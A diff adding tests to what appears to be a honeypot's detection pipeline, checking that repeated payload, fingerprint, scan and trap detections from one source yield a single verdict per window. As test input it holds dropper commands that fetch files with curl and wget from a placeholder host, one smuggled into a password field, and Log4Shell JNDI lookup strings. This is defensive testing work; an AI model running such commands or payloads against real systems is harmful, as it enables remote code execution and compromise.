@@ -137,6 +137,46 @@ def test_dropper_commands_and_attack_requests_are_payload_verdicts() -> None:
     assert payloads[1].reasons == ("Log4Shell JNDI lookup (CVE-2021-44228) (log4shell, +90)",)
 
 
+def test_one_source_gets_one_payload_verdict_within_repeat_after_whatever_rules_matched() -> None:
+    # Issue 13: two payload.verdicts for one source 15 ms apart. Each matched different rules,
+    # and the rules matched were part of what counted as "the same verdict".
+    rig = Rig()
+    rig.observe(EventId.TRAP_COMMAND, "ssh", command="chmod +x x; curl http://203.0.113.9/y")
+    rig.clock.advance(0.015)
+    rig.observe(EventId.TRAP_COMMAND, "ssh", command="cd /tmp; wget http://203.0.113.9/x")
+    rig.observe(EventId.TRAP_CREDENTIAL, "web", username="u", password="cd /tmp; wget http://a/b")
+    payloads = [v for v in rig.verdicts() if v.event_id == EventId.PAYLOAD_VERDICT]
+    assert len(payloads) == 1 and len(rig.decided) == 1
+    assert payloads[0].evidence["rules"] == ["download-url", "chmod-exec"]
+    # A higher score within the window is a new answer for the policy, and is given.
+    rig.observe(EventId.TRAP_COMMAND, "ssh", command="echo '${jndi:ldap://203.0.113.9/a}'")
+    assert [v.score > payloads[0].score for v in rig.decided[1:]] == [True]
+    rig.observe(EventId.TRAP_COMMAND, "ssh", command="echo '${jndi:ldap://203.0.113.9/b}'")
+    assert len(rig.decided) == 2
+    rig.clock.advance(DETECTION.repeat_after)
+    rig.observe(EventId.TRAP_COMMAND, "ssh", command="cd /tmp; wget http://203.0.113.9/x")
+    assert len(rig.decided) == 3  # and again once repeat_after has passed
+
+
+def test_every_detector_with_repeat_after_gives_one_verdict_per_source_in_the_window() -> None:
+    rig = Rig()
+    # fingerprint: two different known-bad clients from one source
+    for ja4 in ("t13d201100_2b729b4bf6f3_9e7b989ebec8", "t12i190700_d83cc789557e_16bbda4055b2"):
+        rig.observe(EventId.TLS_CLIENT_HELLO, "web", ja4=ja4, ja3="x")
+    assert [v.detector for v in rig.decided] == ["fingerprint"]
+    # scan: a port scan that is at the same moment an address sweep
+    rig.decided.clear()
+    for n in range(8):
+        rig.pipeline.packet(SRC, f"192.0.2.{n + 10}", 1000 + n, "tcp")
+    scans = [v for v in rig.decided if v.detector == "scan"]
+    assert len(scans) == 1
+    # a trap: two contacts, one verdict
+    rig.decided.clear()
+    rig.observe(EventId.TRAP_SESSION, "banner", port=2323)
+    rig.observe(EventId.TRAP_SESSION, "banner", port=2324)
+    assert [v.score for v in rig.decided if v.detector == "banner"] == [20.0]
+
+
 def test_known_bad_ja4_is_a_fingerprint_verdict_and_known_good_is_not() -> None:
     rig = Rig()
     rig.observe(
